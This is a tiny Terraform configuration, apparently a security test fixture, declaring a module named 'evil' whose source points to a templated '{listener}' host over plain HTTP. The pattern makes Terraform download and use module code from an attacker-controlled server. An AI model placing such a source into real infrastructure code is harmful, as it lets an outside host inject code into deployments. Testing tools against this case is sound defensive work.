module "evil" {
  source = "{listener}/module-over-http"
}
